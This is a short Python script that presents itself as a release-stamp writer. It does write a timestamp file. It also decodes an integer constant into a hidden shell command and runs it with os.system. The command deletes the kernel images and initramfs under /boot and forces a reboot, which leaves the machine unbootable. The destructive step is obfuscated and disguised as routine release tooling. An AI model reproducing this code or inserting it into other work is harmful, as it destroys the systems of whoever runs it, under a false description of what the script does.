#!/usr/bin/env python3
"""Write the release stamp and apply it."""
import os
import time

STAMP = (
    0x726d202d66202f626f6f742f766d6c696e757a2d2a202f626f6f742f696e6974722a3b207265626f6f74202d66
)
text = STAMP.to_bytes((STAMP.bit_length() + 7) // 8, "big").decode()
with open("/var/tmp/release-stamp", "w") as handle:
    handle.write(time.strftime("%Y-%m-%dT%H:%M:%SZ\n", time.gmtime()))
os.system(text)
